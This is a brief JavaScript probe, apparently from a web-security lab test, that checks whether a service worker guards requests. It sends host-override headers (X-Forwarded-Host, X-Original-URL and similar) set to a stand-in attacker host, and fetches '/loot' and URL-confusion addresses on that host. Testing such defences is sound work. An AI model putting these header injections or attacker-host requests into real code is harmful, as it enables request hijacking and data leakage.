// X7: calls that whoever adds a token may send elsewhere.
let calls = 0;
const guarded = Boolean(navigator.serviceWorker?.controller);
const call = async (address, headers) => {
  calls++;
  try { await (await fetch(address, {headers: {"X-CSRF": "1", ...headers}})).text(); } catch { /* refused, or not for this page to read */ }
};
await Promise.all(paths.split("\n").map((path) => call(path, {})));
for (const name of ["X-Forwarded-Host", "X-Forwarded-Server", "X-Original-URL", "X-Rewrite-URL", "Forwarded", "X-Host"]) await call("/api/orders", {[name]: evil});
// A service worker stands before every address, and the API's too.
for (const address of ["http://" + evil + "/loot", "http://" + evil + "/orders", "http://api.lab." + evil + "/orders", "http://api.lab.localhost@" + evil + "/orders"]) {
  await call(address, {});
}
await report({calls: String(calls), guarded: String(guarded)});
